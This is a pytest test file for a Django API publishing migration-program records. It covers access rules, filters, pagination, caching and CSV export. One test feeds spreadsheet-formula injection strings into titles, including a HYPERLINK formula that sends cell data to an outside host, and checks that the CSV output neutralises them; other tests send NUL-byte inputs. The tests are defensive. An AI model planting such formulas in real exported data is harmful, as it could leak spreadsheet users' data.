"""Reading programs: what each client sees, the shared filters, ordering, pages and CSV."""

from __future__ import annotations

import csv
import io

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext

from observatorio.api.serializers import ProgramSerializer
from observatorio.catalog.models import GcmObjective, Institution, PopulationGroup
from observatorio.programs.models import Program, ResultFigure
from observatorio.published.filters import ProgramFilter
from observatorio.published.representation import programs_as_dicts, published_as_dicts

pytestmark = pytest.mark.django_db
URL = "/api/v1/programs/"
S = Program.Status


@pytest.fixture
def compendium(real_data, db):
    """The 2022 compendium, imported and indexed once and shared (see conftest)."""
    return Program.objects.published()


def ids(response) -> list[int]:
    assert response.status_code == 200, response.content
    return [row["id"] for row in response.json()["results"]]


def test_an_anonymous_client_sees_published_programs_only(anon, make_report):
    published = make_report(state="14", status=S.PUBLISHED, number=1)
    draft = make_report(state="14")
    submitted = make_report(institution="SRE", status=S.SUBMITTED)
    assert ids(anon.get(URL)) == [published.pk]
    assert anon.get(f"{URL}{published.pk}/").json()["status"] == "publicado"
    for hidden in (draft, submitted):
        response = anon.get(f"{URL}{hidden.pk}/")
        assert response.status_code == 404
        assert response.json() == {"detail": "No encontrado."}  # the policy's reason stays hidden


def test_a_token_adds_what_the_policy_lets_its_user_see(client_for, make_report):
    published = make_report(state="07", status=S.PUBLISHED, number=1)
    jalisco = make_report(state="14")
    chiapas = make_report(state="07")
    sre = make_report(institution="SRE", status=S.SUBMITTED)

    seen = {
        row["id"]: row["status"] for row in client_for("enlace_jalisco").get(URL).json()["results"]
    }
    assert seen == {published.pk: "publicado", jalisco.pk: "borrador"}
    assert set(ids(client_for("reporter_sre").get(URL))) == {published.pk, sre.pk}
    assert set(ids(client_for("reviewer").get(URL))) == {
        published.pk,
        jalisco.pk,
        chiapas.pk,
        sre.pk,
    }
    assert ids(client_for("outsider").get(URL)) == [published.pk]
    assert client_for("enlace_chiapas").get(f"{URL}{jalisco.pk}/").status_code == 404
    assert client_for("enlace_jalisco").get(f"{URL}{jalisco.pk}/").status_code == 200


def test_a_program_carries_its_identity_content_and_source(anon, compendium):
    program = compendium.filter(section="federal", institutions__acronym="SRE").first()
    data = anon.get(f"{URL}{program.pk}/").json()
    assert data["id"] == program.pk
    assert data["section"] == "federal"
    assert data["objective"] == program.objective.number
    assert data["number"] == program.number
    assert data["title"] == program.title
    assert data["actor"] == program.actor
    assert data["state"] is None
    assert "SRE" in data["institutions"]
    assert data["results"] == program.results
    assert data["challenges"] == program.challenges
    assert data["challenges_none"] is program.challenges_none
    assert data["cycle"] == 2022
    assert data["source"]["document"] == program.source.title
    assert (data["source"]["first_line"], data["source"]["last_line"]) == (
        program.source_first_line,
        program.source_last_line,
    )
    state_program = compendium.filter(section="estatal").first()
    assert anon.get(f"{URL}{state_program.pk}/").json()["state"] == state_program.state.inegi_code


QUERIES = [
    {},
    {"objective": "3"},
    {"section": "estatal"},
    {"state": "14"},
    {"region": "norte"},
    {"institution": "comar"},
    {"population": "retorno"},
    {"cycle": "2022"},
    {"quantitative": "true"},
    {"section": "federal", "objective": "1"},
    {"search": "niñas"},
    {"search": "ninas", "section": "federal"},
]


def test_the_api_filters_and_orders_exactly_like_the_portals_filter(anon, compendium):
    for query in QUERIES:
        expected = ProgramFilter(query, queryset=compendium)
        assert expected.is_valid(), query
        response = anon.get(URL, {**query, "page_size": 500})
        assert ids(response) == expected.ordered_ids()[:500], query
        assert response.json()["count"] == len(expected.ordered_ids()), query
    assert anon.get(URL, {"search": "niñas"}).json()["count"] > 5


def test_without_a_search_programs_come_in_compendium_order(anon, compendium):
    rows = anon.get(URL, {"page_size": 500}).json()["results"]
    keys = [(r["section"], r["objective"], r["number"]) for r in rows]
    assert keys == sorted(keys)
    assert rows[0]["section"] == "estatal"  # "estatal" sorts before "federal", as in ordered_ids


@pytest.mark.parametrize(
    ("query", "field", "message"),
    [
        ({"objective": "24"}, "objective", "menor o igual a 23"),
        ({"objective": "abc"}, "objective", "número entero"),
        # A fraction used to be read as objective 7.
        ({"objective": "7.5"}, "objective", "número entero"),
        ({"section": "lunar"}, "section", "opción válida"),
        ({"cycle": "0"}, "cycle", "mayor o igual a 1900"),
        ({"cycle": "2022.5"}, "cycle", "número entero"),
        ({"quantitative": "quizas"}, "quantitative", "Use «true» o «false»."),
        ({"search": "a" * 201}, "search", "200"),
        ({"state": ""}, "state", "Escriba un valor o quite el parámetro."),
        ({"page_size": "501"}, "page_size", "de 1 a 500"),
        ({"page_size": "x"}, "page_size", "de 1 a 500"),
        ({"format": "xml"}, "format", "json, csv"),
        # PostgreSQL refuses NUL in text: a 400 on both databases, before any view
        # (observatorio/lib/middleware.py), under the parameter's name.
        ({"institution": "S\x00RE"}, "institution", "carácter nulo"),
        ({"state": "1\x004"}, "state", "carácter nulo"),
        ({"population": "\x00"}, "population", "carácter nulo"),
        ({"region": "norte\x00"}, "region", "carácter nulo"),
    ],
)
def test_a_bad_filter_is_a_400_with_its_message_in_spanish(anon, query, field, message):
    response = anon.get(URL, query)
    assert response.status_code == 400
    assert message in " ".join(response.json()[field])


@pytest.mark.parametrize(
    "query",
    [
        {"state": "99"},
        {"institution": "NOEXISTE"},
        {"population": "marcianos"},
        {"region": "atlantida"},
    ],
)
def test_a_well_formed_key_missing_from_the_catalogue_is_a_404_naming_it(anon, query):
    # The schema allows any well-formed key, so it is not a bad request: it names nothing,
    # like /api/v1/states/99/.
    response = anon.get(URL, query)
    assert response.status_code == 404
    ((name, value),) = query.items()
    assert response.json()["detail"] == f"{name}: «{value}» no existe en el catálogo."


def test_a_practices_filter_on_an_unknown_state_is_a_404(anon):
    assert anon.get("/api/v1/practices/", {"state": "99"}).status_code == 404
    assert anon.get("/api/v1/practices/", {"state": ""}).status_code == 400


def test_the_coverage_of_a_cycle_that_does_not_exist_is_a_404(anon):
    response = anon.get("/api/v1/coverage/", {"cycle": 2998})
    assert response.status_code == 404
    assert response.json()["detail"] == "No existe el ciclo 2998."


def test_a_query_string_too_long_is_a_documented_json_414(anon):
    response = anon.get(URL + "?search=" + "a" * 9000)
    assert response.status_code == 414
    assert response["Content-Type"].startswith("application/json")
    assert "8000 bytes" in response.json()["detail"]
    # A long query the schema allows (200 characters, percent-encoded) is read.
    assert anon.get(URL, {"search": "ñ" * 200, "institution": "é" * 100}).status_code in (
        200,
        404,
    )


def test_two_bad_filters_are_both_reported(anon):
    response = anon.get(URL, {"state": "99", "objective": "0"})
    assert response.status_code == 400
    assert set(response.json()) == {"state", "objective"}


def test_pages_have_a_size_a_maximum_and_links(anon, make_report):
    for number in range(1, 8):
        make_report(state="14", status=S.PUBLISHED, number=number)
    first = anon.get(URL, {"page_size": 3})
    assert first.json()["count"] == 7
    assert len(first.json()["results"]) == 3
    assert first["X-Total-Count"] == "7"
    assert 'rel="next"' in first["Link"]
    last = anon.get(URL, {"page_size": 3, "page": 3})
    assert len(last.json()["results"]) == 1
    assert last.json()["next"] is None
    beyond = anon.get(URL, {"page_size": 3, "page": 4})
    assert beyond.status_code == 404
    assert beyond.json()["detail"].startswith("Página no válida")


def test_lists_download_as_csv(anon, make_report):
    program = make_report(state="14", status=S.PUBLISHED, number=1)
    make_report(institution="SRE", status=S.PUBLISHED, number=1, objective=8)
    program.populations.add(PopulationGroup.objects.order_by("code").first())
    for response in (anon.get(URL, {"format": "csv"}), anon.get(URL, HTTP_ACCEPT="text/csv")):
        assert response.status_code == 200
        assert response["Content-Type"].startswith("text/csv")
        rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8"))))
        assert len(rows) == 2
        assert {"id", "title", "state", "institutions", "source.document"} <= set(rows[0])
        jalisco = next(r for r in rows if r["id"] == str(program.pk))
        assert jalisco["state"] == "14"
        assert jalisco["source.document"] == ""
    assert anon.get(f"{URL}{program.pk}/", {"format": "csv"}).status_code == 400


def test_an_empty_csv_still_has_its_header(anon):
    response = anon.get(URL, {"format": "csv"})
    assert response.status_code == 200
    assert response.content.decode().startswith("id,cycle,section,objective,")


def test_the_fast_representation_is_the_serializers(make_report):
    program = make_report(
        institution="SRE",
        status=S.PUBLISHED,
        number=4,
        budget="1500.5",
        links=["https://www.gob.mx/sre"],
        end_date=None,
    )
    program.institutions.add(Institution.objects.get(acronym="STPS"))
    program.populations.set(PopulationGroup.objects.order_by("code")[:3])
    # Numbers ordered as numbers (12 after 3), although the three relations share a query.
    program.secondary_objectives.set(GcmObjective.objects.filter(number__in=[12, 3, 1]))
    ResultFigure.objects.create(program=program, label="Personas", value="830", sex="mujeres")
    ResultFigure.objects.create(program=program, label="Talleres", value="12.5", unit="talleres")
    state = make_report(state="14", challenges="", challenges_status="ninguno")
    for p in (program, state):
        fresh = Program.objects.get(pk=p.pk)
        assert programs_as_dicts([p.pk]) == [ProgramSerializer(fresh).data]
    assert programs_as_dicts([program.pk])[0]["secondary_objectives"] == [1, 3, 12]
    with CaptureQueriesContext(connection) as queries:
        found = programs_as_dicts([state.pk, 999999, program.pk])
    assert [d["id"] for d in found] == [state.pk, program.pk]
    assert len(queries) == 3  # the programs, their relations (one UNION ALL), their figures


def test_a_publication_shows_in_the_public_list_at_once(anon, client_for, make_report):
    program = make_report(state="14", status=S.APPROVED)
    assert anon.get(URL).json()["count"] == 0  # computed and kept for this data version
    assert client_for("reviewer").post(f"{URL}{program.pk}/publish/").status_code == 200
    assert ids(anon.get(URL)) == [program.pk]


def test_an_edit_of_a_published_program_shows_at_once(anon, make_report):
    """Pages and program representations are kept per data version: an edit replaces them."""
    program = make_report(state="14", status=S.PUBLISHED, title="Título anterior")
    other = make_report(state="07", status=S.PUBLISHED)
    first = anon.get(URL).json()["results"]
    assert {row["title"] for row in first if row["id"] == program.pk} == {"Título anterior"}
    # The same program in another page (a filter) comes from the per-worker cache...
    assert anon.get(URL, {"state": "14"}).json()["results"] == [
        row for row in first if row["id"] == program.pk
    ]
    # ...until it changes.
    program.title = "Título corregido"
    program.save()
    for query in ({}, {"state": "14"}):
        rows = anon.get(URL, query).json()["results"]
        assert {row["title"] for row in rows if row["id"] == program.pk} == {"Título corregido"}
    assert published_as_dicts([other.pk, program.pk]) == programs_as_dicts([other.pk, program.pk])


def test_a_nul_in_the_practices_state_filter_is_a_400(anon):
    response = anon.get("/api/v1/practices/", {"state": "1\x004"})
    assert response.status_code == 400
    assert "carácter nulo" in " ".join(response.json()["state"])


def test_the_pages_of_one_listing_share_its_selection_and_equal_a_fresh_one(
    anon, compendium, monkeypatch
):
    from observatorio.published import caches

    urls = [f"{URL}?search=migrantes&page={page}&page_size=10" for page in (1, 2, 3)] + [
        # A repeated parameter: the filter set reads the last value, and so does the key.
        f"{URL}?section=federal&section=estatal&page_size=5",
        f"{URL}?section=estatal&page_size=5&page=2",
    ]
    caches.API_SELECTIONS.clear()
    hits = caches.API_SELECTIONS.hits
    cached = [anon.get(url).json() for url in urls]
    assert caches.API_SELECTIONS.hits - hits == 3  # pages 2 and 3, and the state part's 2
    assert cached[0]["count"] > 20 and len(cached[2]["results"]) == 10
    assert cached[3]["count"] == cached[4]["count"] == 118
    assert {row["section"] for row in cached[3]["results"] + cached[4]["results"]} == {"estatal"}
    assert cached[3]["results"] != cached[4]["results"]
    # The same answers when every result cache is off.
    monkeypatch.setattr(caches, "RESULT_CACHE", False)
    assert [anon.get(url).json() for url in urls] == cached
    monkeypatch.setattr(caches, "RESULT_CACHE", True)
    # A kept selection never lets an invalid combination through.
    response = anon.get(URL, {"state": "14", "objective": "24"})
    assert response.status_code == 400
    assert set(response.json()) == {"objective"}


@pytest.mark.parametrize("count", [1, 3, 50, 70, 513])
def test_the_compiled_statements_give_the_serializers_output_at_every_size(compendium, count):
    """Statements are compiled per size (1, 2, 4 … 512) and padded: every size, and beyond."""
    programs = list(
        Program.objects.published()
        .select_related("cycle", "objective", "state", "source")
        .order_by("-pk")[: min(count, 346)]
    )
    ids = [p.pk for p in programs] * (2 if count > 346 else 1)  # 513: repeated ids
    expected = [ProgramSerializer(p).data for p in programs]
    got = programs_as_dicts(ids[:count])
    assert got == (expected * 2)[:count]


FORMULAS = ['=HYPERLINK("http://example.org/?x="&A1,"ver")', "+52 55 1234", "-guion", "@SUMA(A1)"]


def test_csv_text_a_spreadsheet_would_run_as_a_formula_starts_with_an_apostrophe(anon, make_report):
    for number, title in enumerate(FORMULAS, start=1):
        make_report(institution="SRE", status=S.PUBLISHED, number=number, title=title)
    sneaky = Institution.objects.get(acronym="SRE")
    sneaky.name = "=1+1"
    sneaky.save()

    response = anon.get(URL, {"format": "csv"})

    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8"))))
    rows.sort(key=lambda row: int(row["number"]))  # numbers stay numbers
    assert [row["title"] for row in rows] == [f"'{title}" for title in FORMULAS]
    assert [row["number"] for row in rows] == ["1", "2", "3", "4"]
    institutions = anon.get("/api/v1/institutions/", {"format": "csv", "page_size": 500})
    names = {
        row["acronym"]: row["name"]
        for row in csv.DictReader(io.StringIO(institutions.content.decode("utf-8")))
    }
    assert names["SRE"] == "'=1+1"


def test_the_csv_renderer_writes_numbers_as_numbers_and_neutralises_text():
    from rest_framework import serializers

    from observatorio.api.renderers import CSVRenderer

    class Figure(serializers.Serializer):
        label = serializers.CharField()
        value = serializers.DecimalField(max_digits=8, decimal_places=2)
        delta = serializers.IntegerField()
        ratio = serializers.FloatField()

    class View:
        def get_serializer_class(self):
            return Figure

    rows = [
        {"label": "-3 personas", "value": "-3.50", "delta": -3, "ratio": -0.5},
        {"label": "=1+1", "value": "12.00", "delta": 4, "ratio": 1.25},
    ]

    data = CSVRenderer().render(rows, renderer_context={"view": View()}).decode("utf-8")

    assert data == (
        "label,value,delta,ratio\r\n'-3 personas,-3.50,-3,-0.5\r\n'=1+1,12.00,4,1.25\r\n"
    )
